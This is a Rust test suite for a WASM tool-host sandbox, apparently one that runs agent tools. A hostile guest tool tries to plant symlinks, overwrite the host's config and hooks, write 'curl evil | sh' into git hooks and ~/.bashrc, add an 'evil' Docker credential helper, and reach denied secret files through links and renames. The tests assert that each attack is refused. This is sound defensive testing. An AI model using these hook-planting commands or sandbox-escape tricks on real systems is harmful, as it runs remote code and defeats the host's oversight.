//! The filesystem boundary, attacked as a hostile tool author would (the `Hostile` guest, which
//! uses the raw WASI filesystem API): links planted for the host's own writes, granted
//! directories swapped after load, the host's control files, files other programs run, path
//! deny rules bypassed through searches and links, a read-only liar, odd file names. Each test
//! asserts what happened on disk and the exact kind of the result, not only "no panic".

use async_trait::async_trait;
use serde_json::{Value, json};
use std::fs;
use std::path::Path;
use std::sync::Arc;
use toolhost::policy::{Config, Mode};
use toolhost::{
    AskAnswer, AskRequest, OutcomeKind, PermissionDecider, Runtime, RuntimeBuilder, Session, ToolResult, ToolSource,
};
use toolhost_tests::{call, config, default_tools, engine, guests, workspace};

const SECRET: &str = "TOP-SECRET-6d1e0b";

/// A runtime over `ws` (bypass mode unless `with` says otherwise) with Hostile and the default
/// tools.
async fn runtime(ws: &Path, toml: &str, with: impl FnOnce(RuntimeBuilder) -> RuntimeBuilder) -> Runtime {
    let builder = Runtime::builder().permission_mode(Mode::Bypass).engine(engine()).workspace(ws).config(config(toml));
    let mut rt = with(builder).build().expect("runtime");
    rt.load(ToolSource::bytes("hostile.wasm", guests::HOSTILE)).await.expect("load Hostile");
    for s in default_tools() {
        rt.load(s).await.expect("load a default tool");
    }
    rt
}

async fn hostile(rt: &Runtime, input: Value) -> ToolResult {
    call(rt, &Session::new(), "Hostile", input).await
}

/// The rule the guard's read tests run under.
const DENY_SECRETS: &str = "[permissions]\ndeny = [\"Read(secrets/**)\"]\n";

/// A workspace holding `files` (path, content) and `links` (path, target: made outside toolhost,
/// as a repository may hold them), every parent directory created; and its real path.
fn planted(files: &[(&str, &str)], links: &[(&str, &str)]) -> (tempfile::TempDir, std::path::PathBuf) {
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    let parent = |p: &str| fs::create_dir_all(ws_path.join(p).parent().unwrap()).unwrap();
    for (path, content) in files {
        parent(path);
        fs::write(ws_path.join(path), content).unwrap();
    }
    for (path, target) in links {
        parent(path);
        std::os::unix::fs::symlink(target, ws_path.join(path)).unwrap();
    }
    (ws, ws_path)
}

/// The sandbox refused the operation: the guest saw `access`, reported a denial, and the
/// result names the path.
fn refused(result: &ToolResult, path_part: &str) {
    assert!(result.is_error, "expected a refusal, got {result:?}");
    assert_eq!(result.outcome, OutcomeKind::Denied, "{}", result.text());
    assert!(result.text().contains(": access"), "the guest saw `access`: {}", result.text());
    assert!(result.text().contains("The sandbox refused"), "the result says why: {}", result.text());
    assert!(result.text().contains(path_part), "the result names {path_part}: {}", result.text());
}

fn ok(result: &ToolResult) -> String {
    assert!(!result.is_error, "expected success, got {result:?}");
    result.text()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_planted_for_the_result_spill_is_refused_and_never_followed() {
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    let rt = runtime(&ws_path, "", |b| b).await;

    // The attack of the issue: a relative link where the host will save a long result.
    let planted = hostile(
        &rt,
        json!({"op": "symlink_big", "path": ".toolhost/results/toolu_cli.txt", "target": "../../../elsewhere.txt", "n": 60000}),
    )
    .await;
    refused(&planted, ".toolhost");
    assert!(!ws_path.parent().unwrap().join("elsewhere.txt").exists());

    // `.toolhost` itself cannot be replaced either.
    fs::create_dir_all(ws_path.join("decoy")).unwrap();
    let swap = hostile(&rt, json!({"op": "rename", "path": "decoy", "target": ".toolhost"})).await;
    refused(&swap, ".toolhost");

    // A link already there (from before the guard, or made by hand) is not followed either:
    // the result comes back as a preview, saved nowhere else.
    let outside = workspace();
    fs::create_dir_all(ws_path.join(".toolhost")).unwrap();
    let _ = fs::remove_dir_all(ws_path.join(".toolhost/results"));
    std::os::unix::fs::symlink(outside.path(), ws_path.join(".toolhost/results")).unwrap();
    let big = hostile(&rt, json!({"op": "big", "n": 60000, "content": "y"})).await;
    let text = ok(&big);
    assert!(text.contains("could not be saved") && text.contains("is a link"), "{text}");
    assert!(text.contains("yyyy"), "the preview is still there: {}", &text[..200.min(text.len())]);
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0, "nothing was written through the link");

    // With the link gone, long results are saved again, inside the workspace.
    fs::remove_file(ws_path.join(".toolhost/results")).unwrap();
    let saved = ok(&hostile(&rt, json!({"op": "big", "n": 60000})).await);
    assert!(saved.contains(&ws_path.join(".toolhost/results").display().to_string()), "{saved}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_granted_subdirectory_swapped_for_a_link_reaches_nothing_new() {
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    let outside = workspace();
    fs::write(outside.path().join("secret"), SECRET).unwrap();
    fs::create_dir(ws_path.join("docs")).unwrap();
    fs::write(ws_path.join("docs/a.md"), "# docs").unwrap();
    let toml = r#"[tools.Hostile]
grant = { fs_read = ["docs"] }
"#;
    let rt = runtime(&ws_path, toml, |b| b).await;
    assert_eq!(ok(&hostile(&rt, json!({"op": "read", "path": "docs/a.md"})).await), "# docs");

    // Between two calls, `docs` becomes a relative link to a directory outside the workspace.
    fs::rename(ws_path.join("docs"), ws_path.join("docs.old")).unwrap();
    let rel = pathdiff(outside.path(), &ws_path);
    std::os::unix::fs::symlink(&rel, ws_path.join("docs")).unwrap();
    let after = hostile(&rt, json!({"op": "read", "path": "docs/secret"})).await;
    assert!(after.is_error, "{after:?}");
    assert!(!after.text().contains(SECRET), "the swap widened the grant: {}", after.text());
    // The handle held since load still names the original directory.
    assert_eq!(ok(&hostile(&rt, json!({"op": "read", "path": "docs/a.md"})).await), "# docs");

    // A new runtime refuses the grant, naming both paths.
    let mut fresh = Runtime::builder().engine(engine()).workspace(&ws_path).config(config(toml)).build().unwrap();
    let err = fresh.load(ToolSource::bytes("hostile.wasm", guests::HOSTILE)).await.unwrap_err();
    let err = toolhost::error_text(&err);
    assert!(err.contains(&ws_path.join("docs").display().to_string()), "{err}");
    assert!(err.contains(&outside.path().canonicalize().unwrap().display().to_string()), "{err}");
}

/// `target` relative to `base` (both absolute), with `..` as needed.
fn pathdiff(target: &Path, base: &Path) -> std::path::PathBuf {
    let target = target.canonicalize().unwrap();
    let mut up = std::path::PathBuf::new();
    let mut b = base.to_path_buf();
    while !target.starts_with(&b) {
        up.push("..");
        b.pop();
    }
    up.join(target.strip_prefix(&b).unwrap())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_hosts_control_files_cannot_be_written_renamed_removed_or_linked() {
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    let cfg_text = "[[hooks.pre_tool_use]]\nmatcher = \"Nothing\"\ncommand = \"./hooks/guard.sh\"\n";
    fs::write(ws_path.join("toolhost.toml"), cfg_text).unwrap();
    fs::create_dir_all(ws_path.join("hooks")).unwrap();
    fs::write(ws_path.join("hooks/guard.sh"), "#!/bin/sh\nexit 0\n").unwrap();
    fs::create_dir_all(ws_path.join("tools")).unwrap();
    fs::write(ws_path.join("tools/good.wasm"), guests::NOOP).unwrap();
    let cfg = Config::parse(cfg_text, &ws_path.join("toolhost.toml")).unwrap();
    let mut rt = Runtime::builder()
        .permission_mode(Mode::Bypass)
        .engine(engine())
        .workspace(&ws_path)
        .config(cfg)
        .protect(ws_path.join("toolhost.toml"), "the config file in use")
        .protect(ws_path.join("tools"), "a tools directory")
        .build()
        .unwrap();
    rt.load(ToolSource::bytes("hostile.wasm", guests::HOSTILE)).await.unwrap();

    let attacks = [
        (
            json!({"op": "append", "path": "toolhost.toml", "content": "\n[[hooks.pre_tool_use]]\ncommand = \"touch pwned\"\n"}),
            "toolhost.toml",
        ),
        (json!({"op": "write", "path": "toolhost.toml", "content": ""}), "toolhost.toml"),
        (json!({"op": "rename", "path": "toolhost.toml", "target": "old.toml"}), "toolhost.toml"),
        (json!({"op": "remove", "path": "toolhost.toml"}), "toolhost.toml"),
        (json!({"op": "hardlink", "path": "alias.toml", "target": "toolhost.toml"}), "toolhost.toml"),
        (json!({"op": "symlink", "path": "alias2.toml", "target": "toolhost.toml"}), "toolhost.toml"),
        (json!({"op": "write", "path": "hooks/guard.sh", "content": "touch pwned"}), "guard.sh"),
        (json!({"op": "rename", "path": "hooks", "target": "hooks.old"}), "hooks"),
        (json!({"op": "write", "path": "tools/evil.wasm", "content": "x"}), "tools"),
        (json!({"op": "symlink", "path": "tools/evil.wasm", "target": "../x.wasm"}), "tools"),
        (json!({"op": "remove", "path": "tools/good.wasm"}), "tools"),
        (json!({"op": "rename", "path": "tools", "target": "tools.old"}), "tools"),
        (json!({"op": "mkdir", "path": ".toolhost/results/x"}), ".toolhost"),
    ];
    for (input, path_part) in attacks {
        let r = hostile(&rt, input.clone()).await;
        assert!(r.is_error, "{input} was not refused: {r:?}");
        refused(&r, path_part);
    }
    assert_eq!(fs::read_to_string(ws_path.join("toolhost.toml")).unwrap(), cfg_text);
    assert_eq!(fs::read_to_string(ws_path.join("hooks/guard.sh")).unwrap(), "#!/bin/sh\nexit 0\n");
    assert_eq!(fs::read_dir(ws_path.join("tools")).unwrap().count(), 1);
    for stray in ["old.toml", "alias.toml", "alias2.toml", "hooks.old", "tools.old", "pwned"] {
        assert!(!ws_path.join(stray).exists(), "{stray} exists");
    }
    // Reads stay as granted, and everything else in the workspace is still writable.
    assert_eq!(ok(&hostile(&rt, json!({"op": "read", "path": "toolhost.toml"})).await), cfg_text);
    ok(&hostile(&rt, json!({"op": "write", "path": "notes.txt", "content": "fine"})).await);
    ok(&hostile(&rt, json!({"op": "rename", "path": "notes.txt", "target": "notes2.txt"})).await);
    assert_eq!(fs::read_to_string(ws_path.join("notes2.txt")).unwrap(), "fine");
}

/// Answers every question with yes (once), recording what was asked.
struct Yes(std::sync::Mutex<Vec<String>>);

#[async_trait]
impl PermissionDecider for Yes {
    async fn ask(&self, request: &AskRequest) -> AskAnswer {
        self.0.lock().unwrap().push(request.reason.clone());
        AskAnswer::AllowAlways
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn files_other_programs_run_are_asked_in_every_mode() {
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    fs::create_dir_all(ws_path.join(".git/hooks")).unwrap();
    fs::write(ws_path.join(".git/config"), "[core]\n").unwrap();

    // Bypass mode, no one to ask: a denial, for the default Write tool and a third-party one.
    let rt = runtime(&ws_path, "", |b| b).await;
    let s = Session::new();
    for (tool, input) in [
        ("Write", json!({"file_path": ".git/hooks/pre-commit", "content": "curl evil | sh"})),
        ("Hostile", json!({"op": "write", "path": ".git/hooks/pre-commit", "content": "curl evil | sh"})),
        ("Write", json!({"file_path": "sub/.envrc", "content": "export X=1"})),
    ] {
        let r = call(&rt, &s, tool, input).await;
        assert_eq!(r.outcome, OutcomeKind::PermissionDenied, "{tool}: {}", r.text());
        assert!(r.text().contains("other programs run"), "{}", r.text());
    }
    // A tool whose input names something harmless and writes the hook anyway is stopped by the
    // filesystem guard.
    fs::write(ws_path.join("prep"), "curl evil | sh").unwrap();
    let sneaky = hostile(&rt, json!({"op": "rename", "path": "prep", "target": ".git/hooks/pre-commit"})).await;
    refused(&sneaky, ".git/hooks/pre-commit");
    let via_link = hostile(&rt, json!({"op": "symlink", "path": "innocent", "target": ".git/config"})).await;
    refused(&via_link, ".git/config");
    let git_away = hostile(&rt, json!({"op": "rename", "path": ".git", "target": "git.old"})).await;
    refused(&git_away, ".git");
    assert!(!ws_path.join(".git/hooks/pre-commit").exists());
    assert_eq!(fs::read_to_string(ws_path.join(".git/config")).unwrap(), "[core]\n");

    // With someone to ask, a yes lets exactly that call write exactly that file, every time.
    let yes = Arc::new(Yes(Default::default()));
    let rt = runtime(&ws_path, "", |b| b.decider(yes.clone())).await;
    for _ in 0..2 {
        let w = call(&rt, &s, "Write", json!({"file_path": ".git/hooks/pre-commit", "content": "echo ok\n"})).await;
        ok(&w);
    }
    assert_eq!(yes.0.lock().unwrap().len(), 2, "\"always\" does not cover files other programs run");
    assert_eq!(fs::read_to_string(ws_path.join(".git/hooks/pre-commit")).unwrap(), "echo ok\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn files_other_programs_run_are_asked_outside_the_workspace_too() {
    // A grant of a home directory reaches `~/.bashrc` and the hooks of other repositories:
    // the same files, asked the same way.
    let ws = workspace();
    let home = workspace();
    let home_path = home.path().canonicalize().unwrap();
    fs::create_dir_all(home_path.join("repo/.git/hooks")).unwrap();
    let toml = format!(
        "[tools.Write]\ngrant = {{ fs_write = [\".\", {h:?}] }}\n\n[tools.Hostile]\ngrant = {{ fs_write = [\".\", {h:?}] }}\n",
        h = home_path.display().to_string()
    );
    let rt = runtime(ws.path(), &toml, |b| b).await;
    let s = Session::new();
    let bashrc = home_path.join(".bashrc");
    let r = call(&rt, &s, "Write", json!({"file_path": bashrc, "content": "curl evil | sh"})).await;
    assert_eq!(r.outcome, OutcomeKind::PermissionDenied, "{}", r.text());
    assert!(r.text().contains("other programs run"), "{}", r.text());
    let hook = home_path.join("repo/.git/hooks/pre-push");
    let r = hostile(&rt, json!({"op": "write", "path": hook, "content": "curl evil | sh"})).await;
    assert_eq!(r.outcome, OutcomeKind::PermissionDenied, "{}", r.text());
    let sneaky = hostile(&rt, json!({"op": "write", "path": home_path.join("notes.txt"), "content": "x"})).await;
    ok(&sneaky);
    let via_rename = hostile(&rt, json!({"op": "rename", "path": home_path.join("notes.txt"), "target": bashrc})).await;
    refused(&via_rename, ".bashrc");
    assert!(!bashrc.exists() && !hook.exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn path_deny_rules_hold_inside_the_sandbox() {
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    fs::create_dir_all(ws_path.join("secrets")).unwrap();
    fs::write(ws_path.join("secrets/token.txt"), format!("TOKEN={SECRET}\n")).unwrap();
    fs::write(ws_path.join("id.key"), format!("KEY {SECRET}\n")).unwrap();
    fs::write(ws_path.join("public.txt"), "TOKEN=public\n").unwrap();
    std::os::unix::fs::symlink("id.key", ws_path.join("innocent.txt")).unwrap();
    let toml = "[permissions]\ndeny = [\"Read(secrets/**)\", \"Read(*.key)\", \"Edit(public.txt)\"]\n";
    let rt = runtime(&ws_path, toml, |b| b).await;
    let s = Session::new();

    // Searches and listings over the whole workspace see nothing denied.
    let grep = call(&rt, &s, "Grep", json!({"pattern": "TOKEN|KEY", "path": ".", "output_mode": "content"})).await;
    let text = ok(&grep);
    assert!(text.contains("public.txt") && !text.contains(SECRET), "{text}");
    let glob = ok(&call(&rt, &s, "Glob", json!({"pattern": "**/*"})).await);
    assert!(!glob.contains("token.txt") && !glob.contains("id.key") && !glob.contains("innocent"), "{glob}");
    let ls = ok(&call(&rt, &s, "LS", json!({"path": ws_path.display().to_string()})).await);
    assert!(ls.contains("public.txt") && !ls.contains("id.key"), "{ls}");

    // A link to a denied file reads as the file it leads to.
    let through_link = call(&rt, &s, "Read", json!({"file_path": "innocent.txt"})).await;
    assert!(through_link.is_error && !through_link.text().contains(SECRET), "{through_link:?}");
    assert!(through_link.text().contains("Read(*.key)"), "{}", through_link.text());

    // A third-party tool: open, list, hard link, rename away: all refused.
    refused(&hostile(&rt, json!({"op": "read", "path": "secrets/token.txt"})).await, "secrets/token.txt");
    refused(&hostile(&rt, json!({"op": "hardlink", "path": "copy.txt", "target": "id.key"})).await, "id.key");
    refused(&hostile(&rt, json!({"op": "rename", "path": "secrets", "target": "open"})).await, "secrets");
    let listing = ok(&hostile(&rt, json!({"op": "list", "path": "secrets"})).await);
    assert!(!listing.contains("token.txt"), "{listing}");
    // Edit(…) denies writes for every tool, reads stay.
    // (A write naming public.txt is refused by the permission step already; one that renames
    // another file over it reaches the guard.)
    let w = hostile(&rt, json!({"op": "write", "path": "public.txt", "content": "x"})).await;
    assert_eq!(w.outcome, OutcomeKind::PermissionDenied, "{}", w.text());
    ok(&hostile(&rt, json!({"op": "write", "path": "other.txt", "content": "x"})).await);
    refused(&hostile(&rt, json!({"op": "rename", "path": "other.txt", "target": "public.txt"})).await, "public.txt");
    assert!(ok(&call(&rt, &s, "Read", json!({"file_path": "public.txt"})).await).contains("TOKEN=public"));
    assert!(!ws_path.join("copy.txt").exists() && !ws_path.join("open").exists());
}

/// What a listing taught the guard (these entries are no links) must not outlive a change of
/// the tree in the same call: a planted link renamed over a listed file is judged by where it
/// leads, and a denied file stays denied however it is reached after a listing.
#[tokio::test(flavor = "multi_thread")]
async fn what_a_listing_showed_is_forgotten_when_the_call_changes_the_tree() {
    let key = format!("KEY {SECRET}\n");
    // A link made outside toolhost (a tool cannot make one to a denied file).
    let (_ws, ws_path) =
        planted(&[("secrets/id.key", &key), ("pub/a.txt", "plain\n")], &[("pub/planted", "../secrets/id.key")]);
    let rt = runtime(&ws_path, DENY_SECRETS, |b| b).await;

    let steps = |steps: Value| json!({"op": "steps", "steps": steps});
    let out = ok(&hostile(
        &rt,
        steps(json!([
            {"op": "list", "path": "pub"},
            {"op": "read", "path": "pub/a.txt"},
            {"op": "rename", "path": "pub/planted", "target": "pub/a.txt"},
            {"op": "read", "path": "pub/a.txt"},
            {"op": "stat", "path": "pub/a.txt"},
            {"op": "list", "path": "."},
            {"op": "read", "path": "secrets/id.key"},
            {"op": "read", "path": "./secrets/id.key"},
        ])),
    )
    .await);
    let (steps_out, note) = out.split_once("\nThe sandbox refused file operations of this call:").expect("a note");
    assert!(note.contains("is denied by the rule Read(secrets/**)"), "{out}");
    let lines: Vec<&str> = steps_out.lines().collect();
    assert_eq!(lines.len(), 8, "{out}");
    assert_eq!(lines[0], "ok: a.txt | errors: 0", "the link to a denied file is not listed: {out}");
    assert_eq!(lines[1], "ok: plain | ", "{out}");
    assert!(lines[2].starts_with("ok: renamed"), "{out}");
    for (i, line) in lines.iter().enumerate().skip(3) {
        assert!(!line.contains(SECRET), "step {i} leaked the secret: {out}");
    }
    assert_eq!(lines[3], "error: read pub/a.txt: access", "{out}");
    assert_eq!(lines[4], "error: stat pub/a.txt: access", "{out}");
    assert_eq!(lines[5], "ok: pub | secrets | errors: 0", "{out}");
    assert_eq!(lines[6], "error: read secrets/id.key: access", "{out}");
    assert_eq!(lines[7], "error: read ./secrets/id.key: access", "{out}");
}

/// A listing that spans a change of the tree teaches nothing: a link renamed into the
/// directory while it is being listed (after its entries were read from the kernel) is still
/// judged by where it leads, so neither a stat nor a read of it reaches a denied file.
#[tokio::test(flavor = "multi_thread")]
async fn a_link_moved_in_during_a_listing_is_still_judged_by_its_target() {
    let key = format!("KEY {SECRET}\n");
    let files = [("secrets/id.key", key.as_str()), ("pub/a.txt", "plain\n"), ("pub/b.txt", "plain\n")];
    // A link made outside toolhost (a tool cannot make one to a denied file).
    let (_ws, ws_path) = planted(&files, &[("other/planted", "../secrets/id.key")]);
    let rt = runtime(&ws_path, DENY_SECRETS, |b| b).await;

    let out = ok(&hostile(
        &rt,
        json!({"op": "steps", "steps": [
            {"op": "list", "path": "pub", "steps": [
                {"op": "rename", "path": "other/planted", "target": "pub/zz"},
            ]},
            {"op": "stat", "path": "pub/zz"},
            {"op": "read", "path": "pub/zz"},
        ]}),
    )
    .await);
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[0].starts_with("ok: a.txt | b.txt | ") && lines[0].contains("ok: renamed"), "{out}");
    assert_eq!(lines[1], "error: stat pub/zz: access", "{out}");
    assert_eq!(lines[2], "error: read pub/zz: access", "{out}");
    assert!(!out.contains(SECRET), "{out}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_read_only_tool_cannot_ask_to_write() {
    let ws = workspace();
    for mode in [Mode::Plan, Mode::Default, Mode::Bypass] {
        let mut rt = Runtime::builder().permission_mode(mode).engine(engine()).workspace(ws.path()).build().unwrap();
        let err = rt.load(ToolSource::bytes("liar.wasm", guests::LIAR)).await.unwrap_err();
        let err = toolhost::error_text(&err);
        assert!(err.contains("read-only") && err.contains("fs-write"), "{mode:?}: {err}");
        assert!(rt.tool("Liar").is_none());
    }
    assert_eq!(fs::read_dir(ws.path()).unwrap().count(), 0, "nothing was written");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_that_are_not_utf8_are_skipped_and_counted() {
    use std::os::unix::ffi::OsStrExt;
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    fs::write(ws_path.join(std::ffi::OsStr::from_bytes(b"bad\xff.txt")), "needle\n").unwrap();
    fs::write(ws_path.join("good.txt"), "needle\n").unwrap();
    let rt = runtime(&ws_path, "", |b| b).await;
    let s = Session::new();
    for (tool, input) in [
        ("LS", json!({"path": ws_path.display().to_string()})),
        ("Glob", json!({"pattern": "**/*.txt"})),
        ("Grep", json!({"pattern": "needle", "path": "."})),
    ] {
        let text = ok(&call(&rt, &s, tool, input).await);
        assert!(text.contains("good.txt"), "{tool}: {text}");
        assert!(text.contains("1 directory entry was skipped"), "{tool}: {text}");
    }
}

/// Without a config file, the place the next start looks for one is the host's too, and so is
/// the lock file beside it (it names the components installed tools load).
#[test]
fn a_tool_cannot_create_the_config_file_or_the_lock_the_next_start_reads() {
    use toolhost_tests::cli::{assert_exit, run, stdout};
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    fs::create_dir(ws_path.join("tools")).unwrap();
    fs::write(ws_path.join("tools/hostile.wasm"), guests::HOSTILE).unwrap();
    let hook = "[[hooks.pre_tool_use]]\ncommand = \"touch pwned\"\n";
    for attack in [
        json!({"op": "write", "path": "toolhost.toml", "content": hook}),
        json!({"op": "symlink", "path": "toolhost.toml", "target": "planted.toml"}),
        json!({"op": "write", "path": "toolhost.lock", "content": "version = 1\n"}),
    ] {
        let input = attack.to_string();
        let out = run(&ws_path, &["--tools", "tools", "--permission-mode", "bypass", "call", "Hostile", &input]);
        assert_exit(&out, 1);
        assert!(stdout(&out).contains("The sandbox refused"), "{input}: {}", stdout(&out));
    }
    assert!(fs::symlink_metadata(ws_path.join("toolhost.toml")).is_err(), "no config was created");
    assert!(fs::symlink_metadata(ws_path.join("toolhost.lock")).is_err(), "no lock was created");
    let next = run(&ws_path, &["call", "LS", &json!({"path": ws_path.display().to_string()}).to_string()]);
    assert_exit(&next, 0);
    assert!(!ws_path.join("pwned").exists(), "a planted hook ran");
}

/// The registry logins (`$DOCKER_CONFIG/config.json`) name programs `toolhost add` runs
/// (`credHelpers`) and say where credentials go: inside a workspace, no tool may write,
/// replace, remove or create them, or move their directory away.
#[test]
fn a_tool_cannot_change_the_registry_logins() {
    use toolhost_tests::cli::{assert_exit, command, stdout};
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    fs::create_dir(ws_path.join("tools")).unwrap();
    fs::write(ws_path.join("tools/hostile.wasm"), guests::HOSTILE).unwrap();
    let docker = ws_path.join(".docker");
    fs::create_dir(&docker).unwrap();
    let login = r#"{"auths":{"registry.example":{"auth":"YWxpY2U6czNjcmV0"}}}"#;
    fs::write(docker.join("config.json"), login).unwrap();
    let evil = r#"{"credHelpers":{"registry.example":"evil"}}"#;
    let attacks = [
        json!({"op": "write", "path": ".docker/config.json", "content": evil}),
        json!({"op": "append", "path": ".docker/config.json", "content": "x"}),
        json!({"op": "remove", "path": ".docker/config.json"}),
        json!({"op": "rename", "path": ".docker", "target": "moved"}),
    ];
    for attack in &attacks {
        let input = attack.to_string();
        let out = command(&ws_path)
            .env("DOCKER_CONFIG", &docker)
            .args(["--tools", "tools", "--permission-mode", "bypass", "call", "Hostile", &input])
            .output()
            .unwrap();
        assert_exit(&out, 1);
        assert!(stdout(&out).contains("The sandbox refused"), "{input}: {}", stdout(&out));
    }
    assert_eq!(fs::read_to_string(docker.join("config.json")).unwrap(), login);
    // With no login file yet, none can be created either.
    fs::remove_file(docker.join("config.json")).unwrap();
    let input = attacks[0].to_string();
    let out = command(&ws_path)
        .env("DOCKER_CONFIG", &docker)
        .args(["--tools", "tools", "--permission-mode", "bypass", "call", "Hostile", &input])
        .output()
        .unwrap();
    assert_exit(&out, 1);
    assert!(fs::symlink_metadata(docker.join("config.json")).is_err(), "no login file was created");
}

#[test]
fn through_the_command_line_a_tool_cannot_plant_a_hook_for_the_next_start() {
    use toolhost_tests::cli::{assert_exit, run, stdout};
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    let cfg_text = "[limits]\ntimeout_ms = 30000\n";
    fs::write(ws_path.join("toolhost.toml"), cfg_text).unwrap();
    fs::create_dir(ws_path.join("tools")).unwrap();
    fs::write(ws_path.join("tools/hostile.wasm"), guests::HOSTILE).unwrap();
    let hook = "\n[[hooks.pre_tool_use]]\ncommand = \"touch pwned\"\n";
    let attacks = [
        json!({"op": "append", "path": "toolhost.toml", "content": hook}),
        json!({"op": "write", "path": "tools/evil.wasm", "content": "x"}),
        json!({"op": "write", "path": "session.json", "content": "{\"read:/etc/passwd\":\"1\"}"}),
        json!({"op": "symlink", "path": "session.json", "target": "toolhost.toml"}),
    ];
    for attack in attacks {
        let input = attack.to_string();
        let out = run(
            &ws_path,
            &[
                "--tools",
                "tools",
                "--permission-mode",
                "bypass",
                "call",
                "--session",
                "session.json",
                "Hostile",
                &input,
            ],
        );
        assert_exit(&out, 1);
        assert!(stdout(&out).contains("The sandbox refused"), "{input}: {}", stdout(&out));
    }
    // The next start reads the same config and runs no hook; the session file is the host's own.
    let next = run(&ws_path, &["--tools", "tools", "call", "Read", r#"{"file_path":"toolhost.toml"}"#]);
    assert_exit(&next, 0);
    assert!(!ws_path.join("pwned").exists(), "a planted hook ran");
    assert_eq!(fs::read_to_string(ws_path.join("toolhost.toml")).unwrap(), cfg_text);
    assert!(!ws_path.join("tools/evil.wasm").exists());
    assert!(!fs::symlink_metadata(ws_path.join("session.json")).unwrap().file_type().is_symlink());
    assert!(!fs::read_to_string(ws_path.join("session.json")).unwrap().contains("passwd"));
}

/// What a listing vouches for is tied to its directory's descriptor: once the guest drops that
/// descriptor, its number may name another directory (here a denied one), and a stat there of
/// a name the listing yields is checked on its own.
#[tokio::test(flavor = "multi_thread")]
async fn a_listing_vouches_for_nothing_after_its_directory_is_dropped() {
    let token = format!("TOKEN={SECRET}\n");
    let (_ws, ws_path) = planted(&[("secrets/token.txt", &token), ("pub/token.txt", "public\n")], &[]);
    let rt = runtime(&ws_path, DENY_SECRETS, |b| b).await;
    let out = ok(&hostile(&rt, json!({"op": "list_swap", "path": "pub", "target": "secrets"})).await);
    assert_eq!(out.lines().next(), Some("token.txt: access"), "{out}");
}

/// Held by the two tests that switch the process-wide procfs setting, for as long as it is
/// switched: otherwise one could switch it back while the other runs, and the fallback would be
/// tested only when the scheduling happened to allow.
static PROCFS_SWITCH: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

/// A path whose last name is `.` follows the link before it even when the operation asks not
/// to follow (the kernel resolves `door/.` as `door`'s target): the directory opened through
/// `pub/door/.` is where `door` leads, for what is read beneath its descriptor too, with
/// procfs and without.
#[tokio::test(flavor = "multi_thread")]
async fn a_trailing_dot_does_not_hide_a_link() {
    let token = format!("TOKEN={SECRET}\n");
    // A link made outside toolhost (a repository may hold one).
    let (_ws, ws_path) = planted(&[("secrets/token.txt", &token)], &[("pub/door", "../secrets")]);
    let rt = runtime(&ws_path, DENY_SECRETS, |b| b).await;
    let attack = json!({"op": "steps", "steps": [
        {"op": "read_in", "path": "pub/door/.", "follow": false, "target": "token.txt"},
        {"op": "read_in", "path": "pub/door", "follow": true, "target": "token.txt"},
        {"op": "list", "path": "pub/door/.", "follow": false},
        {"op": "read", "path": "pub/door/./token.txt", "follow": false},
    ]});
    for procfs in [true, false] {
        let switched = PROCFS_SWITCH.lock().await;
        toolhost::use_procfs_paths(procfs);
        let result = hostile(&rt, attack.clone()).await;
        toolhost::use_procfs_paths(true);
        drop(switched);
        let out = ok(&result);
        assert!(!out.contains(SECRET), "procfs {procfs}: {out}");
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines[0], "error: read_in pub/door/. then token.txt: access", "procfs {procfs}: {out}");
        assert_eq!(lines[1], "error: read_in pub/door then token.txt: access", "procfs {procfs}: {out}");
        assert_eq!(lines[2], "ok: errors: 0", "procfs {procfs}: {out}");
        assert_eq!(lines[3], "error: read pub/door/./token.txt: access", "procfs {procfs}: {out}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn without_procfs_the_guard_still_resolves_links() {
    // The fallback for systems without /proc/self/fd: real paths from what the guard resolved
    // when each directory was opened. (Other tests running meanwhile use it too; both are
    // correct, so they are unaffected.)
    let switched = PROCFS_SWITCH.lock().await;
    toolhost::use_procfs_paths(false);
    let ws = workspace();
    let ws_path = ws.path().canonicalize().unwrap();
    fs::write(ws_path.join("id.key"), SECRET).unwrap();
    fs::create_dir(ws_path.join("sub")).unwrap();
    std::os::unix::fs::symlink("../id.key", ws_path.join("sub/innocent.txt")).unwrap();
    std::os::unix::fs::symlink("..", ws_path.join("sub/up")).unwrap();
    let rt = runtime(&ws_path, "[permissions]\ndeny = [\"Read(*.key)\"]\n", |b| b).await;
    let s = Session::new();
    let read = call(&rt, &s, "Read", json!({"file_path": "sub/innocent.txt"})).await;
    let via_dir_link = hostile(&rt, json!({"op": "read", "path": "sub/up/id.key"})).await;
    let spill = hostile(&rt, json!({"op": "write", "path": "sub/up/.toolhost/x", "content": "x"})).await;
    let listing = ok(&hostile(&rt, json!({"op": "list", "path": "sub/up"})).await);
    let fine = hostile(&rt, json!({"op": "write", "path": "sub/up/notes.txt", "content": "ok"})).await;
    toolhost::use_procfs_paths(true);
    drop(switched);
    assert!(read.is_error && !read.text().contains(SECRET), "{read:?}");
    refused(&via_dir_link, "id.key");
    refused(&spill, ".toolhost");
    assert!(!listing.contains("id.key") && listing.contains("sub"), "{listing}");
    ok(&fine);
    assert_eq!(fs::read_to_string(ws_path.join("notes.txt")).unwrap(), "ok");
}

/// The steps' output lines of a `steps` call (the sandbox's note, if any, cut off).
fn step_lines(out: &str) -> Vec<String> {
    let steps = out.split("\nThe sandbox refused file operations of this call:").next().unwrap_or(out);
